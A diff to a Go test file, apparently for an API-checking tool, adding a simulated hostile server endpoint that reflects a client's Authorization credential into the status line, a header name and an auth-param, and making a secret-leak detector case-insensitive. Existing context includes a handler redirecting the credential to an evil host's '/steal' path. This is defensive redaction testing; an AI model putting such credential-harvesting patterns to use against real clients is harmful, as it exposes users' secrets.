@@ -161,6 +161,27 @@ func hostileAPIs(t *testing.T) (api, evil *recorder) {
 			// cut of the body's error text.
 			w.Header().Set("Content-Type", "application/json")
 			fmt.Fprintf(w, `{"ok":false,"error":%q}`, strings.Repeat("z", 71)+echoed(r))
+		case "/echo-status":
+			// Echoes where no ResponseWriter can: in the status line's
+			// reason phrase, in a header's name and in an auth-param's
+			// name (which the client and the parser change the case of).
+			cred := r.Header.Get("Authorization")
+			_, cred, _ = strings.Cut(cred, " ")
+			name := strings.Map(func(c rune) rune {
+				if strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_", c) {
+					return c
+				}
+				return '-'
+			}, cred)
+			conn, buf, err := http.NewResponseController(w).Hijack()
+			if err != nil {
+				t.Errorf("hijack: %v", err)
+				return
+			}
+			defer conn.Close()
+			fmt.Fprintf(buf, "HTTP/1.1 401 Unauthorized %s\r\nX-%s: 1\r\nWWW-Authenticate: Bearer realm=\"r\", %s=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+				strings.NewReplacer("\r", " ", "\n", " ").Replace(echoed(r)), name, name)
+			_ = buf.Flush()
 		case "/redirect":
 			http.Redirect(w, r, evilURL+"/steal?k="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
 		default:
@@ -171,7 +192,7 @@ func hostileAPIs(t *testing.T) (api, evil *recorder) {
 }
 
 // leakIn reports which secret has a run of 12 characters, in any of its
-// forms, in text; "" when none. Written independently of checks/redact.
+// forms and in any letter case, in text; "" when none. Written independently of checks/redact.
 func leakIn(text string, secrets map[string]string) string {
 	for _, seg := range strings.Split(text, "<redacted>") {
 		for what, v := range secrets {
@@ -203,8 +224,11 @@ func leakIn(text string, secrets map[string]string) string {
 					}
 					continue
 				}
+				// In any letter case: header and auth-param names come
+				// back canonicalised or lowercased.
+				lseg, lf := strings.ToLower(seg), strings.ToLower(f)
 				for i := skip[f]; i+12 <= len(f); i++ {
-					if strings.Contains(seg, f[i:i+12]) {
+					if strings.Contains(lseg, lf[i:i+12]) {
 						return fmt.Sprintf("%s (%q)", what, f[i:i+12])
 					}
 				}
@@ -287,8 +311,10 @@ environments:
       - {name: key-echo-challenge, credential: key, url: "%[7]s/echo-challenge"}
       - {name: key-echo-json, credential: key, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
       - {name: key-redirect, credential: key, url: "%[7]s/redirect", follow_redirects: true}
+      - {name: key-echo-status, credential: key, url: "%[7]s/echo-status"}
       - {name: basic-echo-challenge, credential: basic, url: "%[7]s/echo-challenge"}
       - {name: basic-echo-json, credential: basic, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
+      - {name: basic-echo-status, credential: basic, url: "%[7]s/echo-status"}
       - {name: client-echo, credential: client, url: "%[7]s/echo-challenge"}
       - {name: client-redirected, credential: client-redirected, url: "%[7]s/echo-challenge"}
       - {name: refresher-echo, credential: refresher, url: "%[7]s/echo-challenge"}
@@ -574,8 +600,8 @@ func hostileRun(t *testing.T, store string) {
 }
 
 // hostileChecks are the checks of hostileConfig.
-var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/basic-echo-challenge",
-	"prod/basic-echo-json", "prod/client-echo", "prod/client-redirected", "prod/refresher-echo", "prod/request-secrets",
+var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/key-echo-status", "prod/basic-echo-challenge",
+	"prod/basic-echo-json", "prod/basic-echo-status", "prod/client-echo", "prod/client-redirected", "prod/refresher-echo", "prod/request-secrets",
 	"staging/key-echo-challenge"}
 
 func minCount(m map[string]int) int {
